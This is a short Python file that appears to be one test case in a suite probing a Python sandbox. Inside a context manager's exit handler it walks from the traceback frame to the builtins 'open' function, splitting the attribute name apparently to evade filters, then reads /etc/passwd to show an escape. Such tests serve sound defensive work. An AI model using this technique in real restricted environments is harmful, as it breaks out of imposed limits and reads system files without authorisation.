# tries: a context manager is handed the traceback
# class: frames
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


class M:
    def __enter__(self):
        return self

    def __exit__(self, kind, value, trace):
        use(pick(trace.tb_frame))
        return True


with M():
    1 / 0
